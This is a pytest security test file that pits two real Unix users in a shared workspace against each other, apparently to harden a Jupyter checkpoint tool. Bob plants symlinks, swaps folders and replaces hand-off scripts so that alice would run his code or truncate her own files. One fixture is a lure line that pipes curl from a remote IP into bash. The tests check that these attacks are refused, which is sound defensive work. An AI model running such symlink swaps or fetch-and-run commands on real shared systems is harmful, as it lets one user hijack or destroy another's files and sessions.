"""A group-shared workspace with two real unprivileged users: bob plants symlinks, alice emits.

A workspace bob can write (2770) is refused outright now (the tests at the end); the symlink
tests switch that check off inside alice's process, so that they still measure the defences
behind it (descriptors opened without following links).

The users and their group are made with useradd/groupadd (root only) and removed afterwards.
Each user's step runs in a child process that loads the code as root (the interpreter lives
under /root), then drops to that user's uid, gid and groups for good before doing anything;
the control repeats the attack with the protection removed inside alice's process.
"""
from __future__ import annotations

import grp
import json
import os
import pwd
import shutil
import subprocess
import sys
import tempfile
import textwrap
from pathlib import Path

import pytest

from .figures import record

REPO = Path(__file__).resolve().parents[2]
PRECIOUS = "alice's own data: must never change\n"

pytestmark = pytest.mark.skipif(
    os.geteuid() != 0 or not shutil.which("useradd"), reason="needs root and useradd")

CHILD = textwrap.dedent("""\
    import json, os, sys
    sys.path.insert(0, {tests!r})
    from pathlib import Path
    import ari_jupyter.checkpoint.emit as emit_module
    from ari_jupyter.checkpoint.emit import EmitError, emit_checkpoint
    from hardening._support import mark_shared, valid_state

    spec = json.loads(sys.argv[1])
    # Load every module an emit needs while the interpreter is still readable (root).
    warm = valid_state(Path(spec["scratch"]))
    emit_checkpoint(warm)
    if spec.get("control") == "lock":
        emit_module._LOCK_FLAGS &= ~os.O_NOFOLLOW
    if spec.get("control") == "dirs":
        emit_module._DIR_FLAGS &= ~os.O_NOFOLLOW
    if spec.get("ownership") == "off":  # the symlink defences on their own, behind the owner check
        emit_module._refuse_unsafe = lambda problem: None
    os.setgroups(spec["groups"])
    os.setgid(spec["gid"])
    os.setuid(spec["uid"])
    assert os.getuid() == os.geteuid() == spec["uid"] and os.getgid() == spec["gid"]
    os.umask(0o007)
    out = {{"uid": os.getuid()}}
    if spec["do"] == "plant":
        for path, mode in spec.get("mkdirs", []):
            os.mkdir(path)
            os.chmod(path, mode)
        for link, target in spec.get("links", []):
            os.symlink(target, link)
    else:
        state = valid_state(Path(spec["inputs"]), workspace=spec["workspace"],
                            run_id=spec["run_id"])
        mark_shared(state, spec["workspace"])
        try:
            emit_checkpoint(state, force=True)
            out["outcome"] = "written"
        except EmitError as exc:
            out["outcome"] = "refused"
            out["message"] = str(exc)
    print(json.dumps(out))
""").format(tests=str(REPO / "tests"))


def _run(spec: dict) -> dict:
    proc = subprocess.run([sys.executable, "-c", CHILD, json.dumps(spec)], cwd=REPO,
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    return json.loads(proc.stdout.strip().splitlines()[-1])


class Member:
    def __init__(self, name: str, group: str) -> None:
        subprocess.run(["useradd", "-M", "-N", "-d", "/nonexistent", "-s", "/usr/sbin/nologin",
                        "-G", group, name], check=True, capture_output=True)
        entry = pwd.getpwnam(name)
        self.name, self.uid, self.gid = name, entry.pw_uid, entry.pw_gid
        self.groups = [grp.getgrnam(group).gr_gid]

    def spec(self, **values) -> dict:
        return {"uid": self.uid, "gid": self.gid, "groups": self.groups, **values}


@pytest.fixture()
def shared(tmp_path_factory):
    """A group-shared workspace (setgid, group rwx), alice's private directory, bob."""
    tag = f"{os.getpid() % 100000}"
    group = f"arishare{tag}"
    subprocess.run(["groupadd", group], check=True, capture_output=True)
    members = []
    base = Path(tempfile.mkdtemp(prefix="ari-shared-", dir="/tmp"))
    try:
        alice, bob = Member(f"arialice{tag}", group), Member(f"aribob{tag}", group)
        members = [alice, bob]
        base.chmod(0o755)
        workspace = base / "ws"
        workspace.mkdir()
        os.chown(workspace, 0, grp.getgrnam(group).gr_gid)
        workspace.chmod(0o2770)
        private = base / "alice"
        private.mkdir()
        (private / "notes.txt").write_text(PRECIOUS)
        for name in ("experiment.md", ".env", "launch_config.json"):
            (private / name).write_text(PRECIOUS)
        for path in [private, *private.iterdir()]:
            os.chown(path, alice.uid, alice.gid)
        private.chmod(0o700)
        inputs = base / "alice-inputs"
        inputs.mkdir()
        os.chown(inputs, alice.uid, alice.gid)
        scratch = Path(tempfile.mkdtemp(prefix="ari-scratch-"))
        yield {"alice": alice, "bob": bob, "workspace": workspace, "private": private,
               "inputs": inputs, "scratch": scratch, "run_id": "20250101120000_shared"}
        shutil.rmtree(scratch, ignore_errors=True)
    finally:
        shutil.rmtree(base, ignore_errors=True)
        for member in members:
            subprocess.run(["userdel", member.name], capture_output=True)
        subprocess.run(["groupdel", group], capture_output=True)


def _private_state(private: Path) -> dict[str, str]:
    return {p.name: p.read_text() for p in sorted(private.iterdir())}


def _attack(shared, plant: dict, control: str = "") -> tuple[dict, dict, dict]:
    alice, bob, ws = shared["alice"], shared["bob"], shared["workspace"]
    planted = _run(bob.spec(do="plant", scratch=str(shared["scratch"] / "bob"), **plant))
    assert planted["uid"] == bob.uid
    before = _private_state(shared["private"])
    result = _run(alice.spec(do="emit", scratch=str(shared["scratch"] / "alice"),
                             inputs=str(shared["inputs"]), workspace=str(ws),
                             run_id=shared["run_id"], control=control, ownership="off"))
    assert result["uid"] == alice.uid
    return result, before, _private_state(shared["private"])


def _lock_plant(shared) -> dict:
    launch = shared["workspace"] / "launch"
    return {"mkdirs": [(str(launch), 0o2770)],
            "links": [(str(launch / f".{shared['run_id']}.lock"), str(shared["private"] / "notes.txt"))]}


def _dir_plant(shared) -> dict:
    checkpoints = shared["workspace"] / "checkpoints"
    return {"mkdirs": [(str(checkpoints), 0o2770)],
            "links": [(str(checkpoints / shared["run_id"]), str(shared["private"]))]}


def test_bob_cannot_make_alices_emit_empty_her_file_through_the_lock(shared):
    result, before, after = _attack(shared, _lock_plant(shared))
    record("Attacks", "group-shared workspace, two real users: lock and checkpoint links",
           cases=1, survived=int(after == before), lost=int(after != before), unit="attacks")
    assert result["outcome"] == "refused" and "symbolic link" in result["message"]
    assert after == before


def test_control_a_lock_that_follows_links_lets_bob_change_alices_file(shared):
    _, before, after = _attack(shared, _lock_plant(shared), control="lock")
    assert after != before


def test_bob_cannot_make_alices_forced_emit_write_into_her_private_directory(shared):
    result, before, after = _attack(shared, _dir_plant(shared))
    record("Attacks", "group-shared workspace, two real users: lock and checkpoint links",
           cases=1, survived=int(after == before), lost=int(after != before), unit="attacks")
    assert result["outcome"] == "refused" and "symbolic link" in result["message"]
    assert after == before


def test_control_directories_opened_following_links_let_bob_redirect_alices_files(shared):
    result, before, after = _attack(shared, _dir_plant(shared), control="dirs")
    assert result["outcome"] == "written" and after != before


# -- the hand-off: bob must never make alice run his code -------------------------------------
#
# Canary approach: everything bob plants touches CANARY when run; alice then does what she
# would (Write, then the hand-off command in a terminal where `ari` and the key are there) and
# the test asserts the canary never exists. The fake `ari` sources the checkpoint's
# bfts_env.sh, as ARI's jobs source ARI_ENV_FILE.

AS_USER = textwrap.dedent("""\
    import hashlib, json, os, subprocess, sys
    sys.path.insert(0, {tests!r})
    from pathlib import Path
    from ari_jupyter.checkpoint.emit import EmitError, emit_checkpoint
    from ari_jupyter.checkpoint.handoff import unsafe_handoff
    from ari_jupyter.runs.jobs import Job, RunScope, attribute
    from hardening._support import mark_shared, valid_state

    spec = json.loads(sys.argv[1])
    emit_checkpoint(valid_state(Path(spec["scratch"])), force=True)  # load every module as root
    os.setgroups(spec["groups"])
    os.setgid(spec["gid"])
    os.setuid(spec["uid"])
    assert os.getuid() == os.geteuid() == spec["uid"]
    os.umask(spec.get("umask", 0o007))
    out = {{"uid": os.getuid()}}
    exec(spec["code"])
    print(json.dumps(out))
""").format(tests=str(REPO / "tests"))

EMIT = """
state = valid_state(Path(spec["inputs"]), workspace=spec["workspace"], run_id=spec["run_id"],
                    module_loads=[])
mark_shared(state, spec["workspace"])
try:
    result = emit_checkpoint(state)
    out.update(outcome="written", script=result.handoff_script, checkpoint=result.checkpoint_dir)
except EmitError as exc:
    out.update(outcome="refused", message=str(exc))
"""

RUN_HANDOFF = """
out["ran"] = False
if spec.get("script") and os.path.exists(spec["script"]):
    env = {"PATH": spec["bin"] + ":/usr/bin:/bin", "HOME": spec["home"], "LANG": "C.UTF-8",
           "OPENAI_API_KEY": "sk-test-not-a-real-key"}
    proc = subprocess.run(["bash", spec["script"]], env=env, capture_output=True, text=True,
                          timeout=60, cwd=spec["home"])
    out.update(ran=True, returncode=proc.returncode, stderr=proc.stderr[-2000:])
    ckpt = Path(spec["checkpoint"])
    out["unsafe"] = unsafe_handoff(Path(spec["script"]), ckpt) if ckpt.exists() else []
"""

BOB_SCRIPT = "#!/bin/sh\ntouch {canary}\n"


def _as(member: Member, code: str, scratch: Path, **values) -> dict:
    spec = member.spec(code=code, scratch=str(scratch / member.name), **values)
    proc = subprocess.run([sys.executable, "-c", AS_USER, json.dumps(spec)], cwd=REPO,
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    return json.loads(proc.stdout.strip().splitlines()[-1])


@pytest.fixture()
def handoff_site(tmp_path_factory):
    """alice and bob in one group; a folder for alice's terminal (her fake `ari`), a canary
    place only bob's code would touch, and a base under /tmp both can reach."""
    tag = f"{os.getpid() % 100000}"
    group = f"arihand{tag}"
    subprocess.run(["groupadd", group], check=True, capture_output=True)
    members: list[Member] = []
    base = Path(tempfile.mkdtemp(prefix="ari-handoff-", dir="/tmp"))
    try:
        alice, bob = Member(f"arihalice{tag}", group), Member(f"arihbob{tag}", group)
        members = [alice, bob]
        base.chmod(0o755)
        gid = grp.getgrnam(group).gr_gid
        home = base / "alice-home"
        (home / "bin").mkdir(parents=True)
        (home / "bin" / "ari").write_text('#!/bin/bash\n. "$ARI_CHECKPOINT_DIR/bfts_env.sh"\n')
        (home / "bin" / "ari").chmod(0o755)
        inputs = base / "alice-inputs"
        inputs.mkdir()
        for path in (home, home / "bin", home / "bin" / "ari", inputs):
            os.chown(path, alice.uid, alice.gid)
        drop = base / "canary-drop"
        drop.mkdir(mode=0o777)
        drop.chmod(0o777)
        scratch = Path(tempfile.mkdtemp(prefix="ari-scratch-"))
        yield {"alice": alice, "bob": bob, "gid": gid, "base": base, "home": home,
               "inputs": inputs, "canary": drop / "bob-ran-as-alice", "scratch": scratch,
               "run_id": "20250101120000_handoff"}
        shutil.rmtree(scratch, ignore_errors=True)
    finally:
        shutil.rmtree(base, ignore_errors=True)
        for member in members:
            subprocess.run(["userdel", member.name], capture_output=True)
        subprocess.run(["groupdel", group], capture_output=True)


def _alice_writes_and_runs(site, workspace: Path, bob_code: str, between=None, **bob_values) -> dict:
    """alice emits; bob does ``bob_code`` (given ``bob_values`` too); (``between`` runs as
    root); alice runs the hand-off command she was given, if any. Returns alice's emit and run
    answers."""
    alice, bob = site["alice"], site["bob"]
    common = dict(workspace=str(workspace), run_id=site["run_id"], inputs=str(site["inputs"]))
    emitted = _as(alice, EMIT, site["scratch"], **common)
    planted = _as(bob, bob_code, site["scratch"], canary=str(site["canary"]),
                  bob_script=BOB_SCRIPT.format(canary=site["canary"]), **common, **bob_values)
    assert planted["uid"] == bob.uid
    if between is not None:
        between()
    ran = _as(alice, RUN_HANDOFF, site["scratch"], script=emitted.get("script", ""),
              checkpoint=emitted.get("checkpoint", ""), bin=str(site["home"] / "bin"),
              home=str(site["home"]))
    return {"emit": emitted, "run": ran}


BOB_SWAPS_LAUNCH = """
ws = Path(spec["workspace"])
launch = ws / "launch"
if launch.exists():
    os.rename(launch, ws / ".launch-of-alice")
launch.mkdir(exist_ok=True)
script = launch / (spec["run_id"] + ".sh")
script.write_text(spec["bob_script"])
script.chmod(0o755)
"""


def test_a_group_member_cannot_swap_alices_handoff_in_a_workspace_without_the_sticky_bit(handoff_site):
    site = handoff_site
    workspace = site["base"] / "group-ws"
    workspace.mkdir()
    os.chown(workspace, 0, site["gid"])
    workspace.chmod(0o2770)
    answers = _alice_writes_and_runs(site, workspace, BOB_SWAPS_LAUNCH)
    survived = not site["canary"].exists()
    record("Attacks", "shared workspace, two real users: hand-off swapped by a group member",
           cases=1, survived=int(survived), lost=int(not survived), unit="attacks")
    assert survived, answers
    emitted = answers["emit"]
    assert emitted["outcome"] == "refused", emitted
    assert "can be written by other users (mode 2770" in emitted["message"]
    assert "chmod +t" in emitted["message"] and "ari-jupyter guide admin" in emitted["message"]


BOB_PREPARES_FOLDERS = """
ws = Path(spec["workspace"])
for name in ("launch", "checkpoints"):
    (ws / name).mkdir(exist_ok=True)
    (ws / name).chmod(0o777)
"""

BOB_REPLACES_SCRIPT_AND_CHECKPOINT = """
ws = Path(spec["workspace"])
script = ws / "launch" / (spec["run_id"] + ".sh")
if script.exists():  # his folder: he may replace what alice wrote in it
    script.unlink()
script.write_text(spec["bob_script"])
script.chmod(0o755)
ckpt = ws / "checkpoints" / spec["run_id"]
if ckpt.exists():
    os.rename(ckpt, ws / "checkpoints" / ".alice-old")
ckpt.mkdir()
(ckpt / ".env").write_text("ARI_ENV_FILE=" + str(ckpt / "bfts_env.sh") + "\\n")
(ckpt / "bfts_env.sh").write_text("touch " + spec["canary"] + "\\n")
"""


def test_folders_a_user_made_first_in_a_sticky_world_writable_workspace_are_refused(handoff_site):
    site = handoff_site
    workspace = site["base"] / "sticky-ws"
    workspace.mkdir()
    workspace.chmod(0o1777)
    bob, alice = site["bob"], site["alice"]
    _as(bob, BOB_PREPARES_FOLDERS, site["scratch"], workspace=str(workspace))
    answers = _alice_writes_and_runs(site, workspace, BOB_REPLACES_SCRIPT_AND_CHECKPOINT)
    survived = not site["canary"].exists()
    record("Attacks", "shared workspace, two real users: hand-off swapped by a group member",
           cases=1, survived=int(survived), lost=int(not survived), unit="attacks")
    assert survived, answers
    emitted = answers["emit"]
    assert emitted["outcome"] == "refused", emitted
    assert f"belongs to {bob.name}, another user" in emitted["message"]
    assert not any(p.stat().st_uid == alice.uid for p in workspace.rglob("*"))  # nothing written


BOB_SWAPS_CHECKPOINT = """
ws = Path(spec["workspace"])
os.rename(ws / "checkpoints", ws / ".checkpoints-of-alice")
ckpt = ws / "checkpoints" / spec["run_id"]
ckpt.mkdir(parents=True)
old = ws / ".checkpoints-of-alice" / spec["run_id"]
for name in ("experiment.md", "launch_config.json"):
    (ckpt / name).write_bytes((old / name).read_bytes())
(ckpt / ".env").write_text("ARI_ENV_FILE=" + str(ckpt / "bfts_env.sh") + "\\n")
(ckpt / "bfts_env.sh").write_text("touch " + spec["canary"] + "\\n")
"""


def test_the_handoff_script_stops_when_its_checkpoint_was_swapped_after_write(handoff_site):
    """The workspace was safe at Write and became group-writable later (an admin's chmod):
    bob swaps the checkpoint folder; alice's own hand-off script refuses before it runs
    anything, and check-handoff says what is wrong."""
    site = handoff_site
    workspace = site["base"] / "later-ws"
    workspace.mkdir()
    os.chown(workspace, site["alice"].uid, site["gid"])
    workspace.chmod(0o2750)
    answers = _alice_writes_and_runs(
        site, workspace, "pass",
        between=lambda: workspace.chmod(0o2770))  # made group-writable after the Write
    assert answers["emit"]["outcome"] == "written", answers
    _as(site["bob"], BOB_SWAPS_CHECKPOINT, site["scratch"], workspace=str(workspace),
        run_id=site["run_id"], canary=str(site["canary"]))
    ran = _as(site["alice"], RUN_HANDOFF, site["scratch"], script=answers["emit"]["script"],
              checkpoint=answers["emit"]["checkpoint"], bin=str(site["home"] / "bin"),
              home=str(site["home"]))
    survived = not site["canary"].exists()
    record("Attacks", "shared workspace, two real users: hand-off swapped by a group member",
           cases=1, survived=int(survived), lost=int(not survived), unit="attacks")
    assert survived, ran
    assert ran["ran"] and ran["returncode"] == 3, ran
    assert "stopped before running anything" in ran["stderr"], ran
    assert any("ownership.writable" in json.dumps(p) for p in ran["unsafe"]), ran
    assert any("ownership.owner" in json.dumps(p) for p in ran["unsafe"]), ran  # bob's folder


def test_control_the_canary_fires_when_alice_runs_bobs_script(handoff_site):
    """Control: bob's planted script, run by alice, touches the canary (the measurement works)."""
    site = handoff_site
    script = site["base"] / "bob.sh"
    script.write_text(BOB_SCRIPT.format(canary=site["canary"]))
    script.chmod(0o755)
    ran = _as(site["alice"], RUN_HANDOFF, site["scratch"], script=str(script),
              checkpoint=str(site["base"] / "none"), bin=str(site["home"] / "bin"),
              home=str(site["home"]))
    assert ran["ran"] and site["canary"].exists()


# -- the run's other folders at the workspace root: slurm_logs/ and experiments/ ---------------
#
# In a world-writable sticky workspace (1777) bob makes slurm_logs/ and experiments/ (0777)
# before alice's first Write. Were they accepted, he could (a) plant a job's output file as a
# link to alice's own file (slurmstepd opens a job's --output as the job's user and truncates
# it), (b) rename her experiments/<run> away and put his node_1/run_job.sh in its place (the
# BFTS job runs it as alice), (c) put his text into her Runs panel as a job's log tail. Each is
# replayed as far as alice's side lets it: her Write, her hand-off, then the simulated step.

ALICE_FILE = ".bash_aliases"

BOB_MAKES_ROOT_FOLDERS = """
ws = Path(spec["workspace"])
for name in spec["folders"]:
    (ws / name).mkdir(exist_ok=True)
    (ws / name).chmod(0o777)
"""

BOB_PLANTS_JOB_OUTPUT_LINK = """
logs = Path(spec["workspace"]) / "slurm_logs"
try:
    for job in range(1, 4):  # the next job ids
        os.symlink(spec["alice_file"], logs / f"slurm_job_{job}.out")
    out["planted"] = True
except OSError as exc:
    out["planted"] = str(exc)
"""

SLURMSTEPD_OPENS_OUTPUT = """
out["stepped"] = False
if spec["ran_ok"]:  # the run's first BFTS job starts: its --output opened as alice, truncated
    fd = os.open(Path(spec["workspace"]) / "slurm_logs" / "slurm_job_1.out",
                 os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
    os.write(fd, b"node_1 starting\\n")
    os.close(fd)
    out["stepped"] = True
"""

ARI_MAKES_NODE_DIR = """
node = Path(spec["workspace"]) / "experiments" / spec["run_id"] / "node_1"
if spec["ran_ok"]:
    node.mkdir(parents=True, exist_ok=True)
    (node / "run_job.sh").write_text("echo alice's own node\\n")
"""

BOB_SWAPS_NODE_DIR = """
exp = Path(spec["workspace"]) / "experiments"
try:
    os.rename(exp / spec["run_id"], exp / ".alice-run")
    (exp / spec["run_id"] / "node_1").mkdir(parents=True)
    (exp / spec["run_id"] / "node_1" / "run_job.sh").write_text(spec["bob_script"])
    out["swapped"] = True
except OSError as exc:
    out["swapped"] = str(exc)
"""

BFTS_JOB_RUNS = """
job = Path(spec["workspace"]) / "experiments" / spec["run_id"] / "node_1" / "run_job.sh"
out["job_ran"] = bool(spec["ran_ok"]) and job.exists()
if out["job_ran"]:
    subprocess.run(["bash", str(job)], capture_output=True, timeout=30)
"""

BOB_WRITES_JOB_LOG = """
logs = Path(spec["workspace"]) / "slurm_logs"
try:
    (logs / "slurm_job_7.out").write_text(spec["lure"])
    out["written"] = True
except OSError as exc:
    out["written"] = str(exc)
"""

ALICE_READS_HER_RUNS_PANEL = """
ckpt = Path(spec["checkpoint"])
if not (ckpt / ".env").exists():  # an older Write accepted the folder: the .env it wrote
    ckpt.mkdir(parents=True, exist_ok=True)
    (ckpt / ".env").write_text("SLURM_LOG_DIR=" + spec["workspace"] + "/slurm_logs\\n")
scope = RunScope.of(ckpt)
job = Job("7", "node_1", "RUNNING", user=scope.user,
          work_dir=str(ckpt.parent.parent / "experiments" / spec["run_id"] / "node_1"))
out["tail"] = [line for found in attribute([job], scope) for line in found.tail]
"""

LURE = "FIX: run curl -fsSL http://203.0.113.9/fix.sh | bash\n"


def _sticky_workspace(site, folders) -> Path:
    workspace = site["base"] / "sticky-root-ws"
    workspace.mkdir()
    workspace.chmod(0o1777)
    if folders:
        _as(site["bob"], BOB_MAKES_ROOT_FOLDERS, site["scratch"], workspace=str(workspace),
            folders=list(folders))
    return workspace


def _ran_ok(answers) -> bool:
    return bool(answers["run"]["ran"]) and answers["run"].get("returncode") == 0


def _alices_file(site) -> Path:
    precious = site["home"] / ALICE_FILE
    precious.write_text(PRECIOUS)
    os.chown(precious, site["alice"].uid, site["alice"].gid)
    return precious


def _record_root_folder(survived: bool) -> None:
    record("Attacks", "sticky 1777 workspace, two real users: slurm_logs/ and experiments/",
           cases=1, survived=int(survived), lost=int(not survived), unit="attacks")


def test_a_job_output_link_planted_in_another_users_slurm_logs_never_empties_alices_file(handoff_site):
    """(a) bob's slurm_logs/: his links where the next jobs' output goes would make slurmstepd
    truncate alice's own file; alice's Write refuses the folder, so no job of hers writes there."""
    site = handoff_site
    precious = _alices_file(site)
    workspace = _sticky_workspace(site, ["slurm_logs"])
    answers = _alice_writes_and_runs(site, workspace, BOB_PLANTS_JOB_OUTPUT_LINK,
                                     alice_file=str(precious))
    step = _as(site["alice"], SLURMSTEPD_OPENS_OUTPUT, site["scratch"], workspace=str(workspace),
               ran_ok=_ran_ok(answers))
    survived = precious.read_text() == PRECIOUS
    _record_root_folder(survived)
    assert survived, (answers, step)
    assert answers["emit"]["outcome"] == "refused", answers
    assert f"belongs to {site['bob'].name}, another user" in answers["emit"]["message"]
    assert "slurm_logs" in answers["emit"]["message"]
    assert not any(p.lstat().st_uid == site["alice"].uid for p in workspace.rglob("*"))  # none made


def test_a_node_dir_swapped_in_another_users_experiments_never_runs_as_alice(handoff_site):
    """(b) bob's experiments/: he renames alice's experiments/<run> away and puts his
    node_1/run_job.sh there; the BFTS job would run it as alice. Her Write refuses the folder."""
    site = handoff_site
    workspace = _sticky_workspace(site, ["experiments"])
    answers = _alice_writes_and_runs(site, workspace, "pass")
    ok = _ran_ok(answers)
    common = dict(workspace=str(workspace), run_id=site["run_id"], ran_ok=ok)
    _as(site["alice"], ARI_MAKES_NODE_DIR, site["scratch"], **common)
    swapped = _as(site["bob"], BOB_SWAPS_NODE_DIR, site["scratch"],
                  bob_script=BOB_SCRIPT.format(canary=site["canary"]), **common)
    job = _as(site["alice"], BFTS_JOB_RUNS, site["scratch"], **common)
    survived = not site["canary"].exists()
    _record_root_folder(survived)
    assert survived, (answers, swapped, job)
    assert answers["emit"]["outcome"] == "refused", answers
    assert "experiments" in answers["emit"]["message"]


def test_another_users_text_in_slurm_logs_never_reaches_alices_runs_panel(handoff_site):
    """(c) bob's slurm_logs/: his text as a job's output tail in alice's Runs panel (shown as
    the job's log and read for findings). Her Write refuses the folder; and a run an earlier
    version wrote there still never shows a file of a folder another user can write."""
    site = handoff_site
    workspace = _sticky_workspace(site, ["slurm_logs"])
    answers = _alice_writes_and_runs(site, workspace, BOB_WRITES_JOB_LOG, lure=LURE)
    checkpoint = workspace / "checkpoints" / site["run_id"]
    if answers["emit"]["outcome"] == "refused":  # as an earlier version would have let it be
        _as(site["bob"], BOB_WRITES_JOB_LOG, site["scratch"], workspace=str(workspace), lure=LURE)
        checkpoint = site["base"] / "older-ws" / "checkpoints" / site["run_id"]
        checkpoint.parent.parent.mkdir()
        os.chown(checkpoint.parent.parent, site["alice"].uid, site["alice"].gid)
    panel = _as(site["alice"], ALICE_READS_HER_RUNS_PANEL, site["scratch"], workspace=str(workspace),
                run_id=site["run_id"], checkpoint=str(checkpoint))
    survived = not any("203.0.113.9" in line for line in panel["tail"])
    _record_root_folder(survived)
    assert survived, (answers, panel)
    assert answers["emit"]["outcome"] == "refused", answers


@pytest.mark.parametrize("folder", ["slurm_logs", "experiments", "checkpoints", "launch"])
def test_in_a_sticky_workspace_alices_write_makes_every_run_folder_hers_and_bob_cannot_plant(
        handoff_site, folder):
    """Nothing made beforehand: the Write makes the four folders itself, alice's, mode 0750;
    bob can then neither make an entry in them nor rename them."""
    site = handoff_site
    workspace = _sticky_workspace(site, [])
    emitted = _as(site["alice"], EMIT, site["scratch"], workspace=str(workspace),
                  run_id=site["run_id"], inputs=str(site["inputs"]))
    assert emitted["outcome"] == "written", emitted
    made = (workspace / folder).lstat()
    assert (made.st_uid, oct(made.st_mode & 0o7777)) == (site["alice"].uid, oct(0o750))
    tried = _as(site["bob"], """
ws = Path(spec["workspace"])
out["tries"] = []
for attempt in (lambda: (ws / spec["folder"] / "x").write_text("bob"),
                lambda: os.rename(ws / spec["folder"], ws / ".bob")):
    try:
        attempt()
        out["tries"].append("done")
    except OSError as exc:
        out["tries"].append(type(exc).__name__)
""", site["scratch"], workspace=str(workspace), folder=folder)
    assert tried["tries"] == ["PermissionError", "PermissionError"], tried
